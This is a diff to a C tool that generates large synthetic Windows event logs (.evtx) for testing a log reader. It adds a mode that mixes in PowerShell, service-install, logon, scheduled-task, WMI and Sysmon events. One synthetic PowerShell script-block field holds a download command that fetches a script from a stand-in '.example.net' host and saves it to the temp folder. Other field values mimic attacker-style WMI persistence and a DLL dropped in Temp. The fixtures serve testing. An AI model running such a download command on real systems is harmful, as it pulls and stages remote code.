@@ -11,6 +11,10 @@
  *   evtxgen --expect SPEC          print what a reader must find (the
  *                                  values rendered as libevtx does)
  *   evtxgen --big MB OUT           >= MB MiB of mixed 4688 + Sysmon 1/3/7
+ *   evtxgen --big-sources MB OUT   the same, every other event from another
+ *                                  source (PowerShell 4104, System 7045,
+ *                                  Security 4624, TaskScheduler 200, WMI
+ *                                  5861, Sysmon 11/22)
  *   evtxgen --sparse OUT           > 4 GiB, > 65535 chunks, mostly holes
  *
  * Spec format (one file per .evtx; UTF-8; one statement per line; leading
@@ -90,6 +94,7 @@ usage(void)
 	    "       evtxgen --verify SPEC FILE\n"
 	    "       evtxgen --expect SPEC\n"
 	    "       evtxgen --big MB OUT\n"
+	    "       evtxgen --big-sources MB OUT\n"
 	    "       evtxgen --sparse OUT\n");
 	exit(2);
 }
@@ -786,8 +791,140 @@ big_event(struct evtxw *w, uint64_t id, uint64_t ft, const char *host,
 	return evtxw_add(w, &ev, e);
 }
 
+/*
+ * One event of the other execution sources (--big-sources): PowerShell
+ * script blocks, service installs, logons, scheduled task runs, WMI,
+ * Sysmon file creates and DNS queries, in turn with big_event()'s
+ * process events.
+ */
 static int
-cmd_big(const char *mb, const char *out, bool sparse)
+big_source_event(struct evtxw *w, uint64_t id, uint64_t ft, const char *host,
+    struct ev_err *e)
+{
+	static const struct {
+		const char	*provider, *guid, *channel;
+		uint16_t	 event_id;
+		const char	*names[4];
+	} src[] = {
+		{ "Microsoft-Windows-PowerShell",
+		    "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
+		    "Microsoft-Windows-PowerShell/Operational", 4104,
+		    { "MessageNumber", "MessageTotal", "ScriptBlockText",
+		    "Path" } },
+		{ "Service Control Manager",
+		    "{555908D1-A6D7-4695-8E1E-26931D2012F4}", "System", 7045,
+		    { "ServiceName", "ImagePath", "ServiceType",
+		    "StartType" } },
+		{ "Microsoft-Windows-Security-Auditing",
+		    "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security", 4624,
+		    { "TargetUserName", "TargetDomainName", "LogonType",
+		    "IpAddress" } },
+		{ "Microsoft-Windows-TaskScheduler",
+		    "{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}",
+		    "Microsoft-Windows-TaskScheduler/Operational", 200,
+		    { "TaskName", "ActionName", "TaskInstanceId",
+		    "EnginePID" } },
+		{ "Microsoft-Windows-WMI-Activity",
+		    "{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}",
+		    "Microsoft-Windows-WMI-Activity/Operational", 5861,
+		    { "Namespace", "ESS", "CONSUMER", "PossibleCause" } },
+		{ "Microsoft-Windows-Sysmon",
+		    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
+		    "Microsoft-Windows-Sysmon/Operational", 11,
+		    { "ProcessGuid", "Image", "TargetFilename",
+		    "CreationUtcTime" } },
+		{ "Microsoft-Windows-Sysmon",
+		    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
+		    "Microsoft-Windows-Sysmon/Operational", 22,
+		    { "ProcessGuid", "Image", "QueryName", "QueryResults" } },
+	};
+	char v[4][320], word[32];
+	struct evtxw_data d[4];
+	struct evtxw_event ev;
+	size_t k = (size_t)(rng() % NELEM(src));
+	const char *im = big_images[rng() % NELEM(big_images)];
+
+	memset(&ev, 0, sizeof(ev));
+	memset(d, 0, sizeof(d));
+	big_word(word, sizeof(word));
+	ev.qualifiers = -1;
+	ev.time = ft;
+	ev.record_id = id;
+	ev.computer = host;
+	ev.pid = 2812;
+	ev.tid = 3656;
+	ev.user_sid = "S-1-5-18";
+	ev.level = 4;
+	ev.keywords = 0x8000000000000000ULL;
+	ev.provider = src[k].provider;
+	ev.provider_guid = src[k].guid;
+	ev.channel = src[k].channel;
+	ev.event_id = src[k].event_id;
+	switch (ev.event_id) {
+	case 4104:
+		snprintf(v[0], sizeof(v[0]), "1");
+		snprintf(v[1], sizeof(v[1]), "1");
+		snprintf(v[2], sizeof(v[2]), "$c = New-Object Net.WebClient; "
+		    "$c.DownloadString('https://%s.example.net/a.ps1') | "
+		    "Out-File $env:TEMP\\%s.ps1", word, word);
+		snprintf(v[3], sizeof(v[3]), "C:\\Users\\alice\\%s.ps1",
+		    word);
+		break;
+	case 7045:
+		snprintf(v[0], sizeof(v[0]), "%s", word);
+		snprintf(v[1], sizeof(v[1]), "%s -k %s", im, word);
+		snprintf(v[2], sizeof(v[2]), "user mode service");
+		snprintf(v[3], sizeof(v[3]), "demand start");
+		break;
+	case 4624:
+		snprintf(v[0], sizeof(v[0]), "%s", word);
+		snprintf(v[1], sizeof(v[1]), "CORP");
+		snprintf(v[2], sizeof(v[2]), "%u", (unsigned)(2 + rng() % 9));
+		snprintf(v[3], sizeof(v[3]), "10.1.%u.%u",
+		    (unsigned)(rng() % 256), (unsigned)(rng() % 256));
+		break;
+	case 200:
+		snprintf(v[0], sizeof(v[0]), "\\Microsoft\\Windows\\%s", word);
+		snprintf(v[1], sizeof(v[1]), "%s", im);
+		snprintf(v[2], sizeof(v[2]), "{3F2504E0-4F89-11D3-9A0C-%012"
+		    PRIX64 "}", (uint64_t)(rng() & 0xffffffffffffULL));
+		snprintf(v[3], sizeof(v[3]), "%u", (unsigned)(4 * rng() % 9000));
+		break;
+	case 5861:
+		snprintf(v[0], sizeof(v[0]), "//./root/subscription");
+		snprintf(v[1], sizeof(v[1]), "%s", word);
+		snprintf(v[2], sizeof(v[2]), "CommandLineEventConsumer=\"%s\"",
+		    word);
+		snprintf(v[3], sizeof(v[3]), "Binding EventFilter: Name=\"%s\"",
+		    word);
+		break;
+	default:	/* Sysmon 11, 22 */
+		snprintf(v[0], sizeof(v[0]), "{3F2504E0-4F89-11D3-9A0C-%012"
+		    PRIX64 "}", (uint64_t)(rng() & 0xffffffffffffULL));
+		snprintf(v[1], sizeof(v[1]), "%s", im);
+		if (ev.event_id == 11)
+			snprintf(v[2], sizeof(v[2]), "C:\\Users\\alice\\"
+			    "AppData\\Local\\Temp\\%s.dll", word);
+		else
+			snprintf(v[2], sizeof(v[2]), "%s.example.net", word);
+		snprintf(v[3], sizeof(v[3]), ev.event_id == 11 ?
+		    "2024-05-01 10:00:00.000" : "::ffff:93.184.216.34;");
+		break;
+	}
+	for (size_t i = 0; i < 4; i++) {
+		d[i].name = src[k].names[i];
+		d[i].text = v[i];
+		d[i].type = evtxw_default_type(ev.provider, d[i].name,
+		    &d[i].decl);
+	}
+	ev.data = d;
+	ev.ndata = 4;
+	return evtxw_add(w, &ev, e);
+}
+
+static int
+cmd_big(const char *mb, const char *out, bool sparse,
+    bool sources)
 {
 	struct ev_err e = EV_ERR_INIT;
 	struct evtxw_opts o = EVTXW_OPTS_INIT;
@@ -828,7 +965,9 @@ cmd_big(const char *mb, const char *out, bool sparse)
 		while (rc == 0 && evtxw_nchunks(w) * (uint64_t)EVTXW_CHUNK_SIZE <
 		    want << 20)
 		{
-			rc = big_event(w, id, ft += 1234567, id % 3 ?
+			/* --big-sources: every other event another source */
+			rc = (sources && id % 2 ? big_source_event :
+			    big_event)(w, id, ft += 1234567, id % 3 ?
 			    "WKS01.corp.local" : "SRV02.corp.local", &e);
 			id++;
 		}
@@ -853,9 +992,11 @@ main(int argc, char *argv[])
 	if (argc == 4 && strcmp(argv[1], "--verify") == 0)
 		return cmd_verify(argv[2], argv[3]);
 	if (argc == 4 && strcmp(argv[1], "--big") == 0)
-		return cmd_big(argv[2], argv[3], false);
+		return cmd_big(argv[2], argv[3], false, false);
+	if (argc == 4 && strcmp(argv[1], "--big-sources") == 0)
+		return cmd_big(argv[2], argv[3], false, true);
 	if (argc == 3 && strcmp(argv[1], "--sparse") == 0)
-		return cmd_big(NULL, argv[2], true);
+		return cmd_big(NULL, argv[2], true, false);
 	if (argc == 3 && argv[1][0] != '-')
 		return cmd_gen(argv[1], argv[2]);
 	usage();
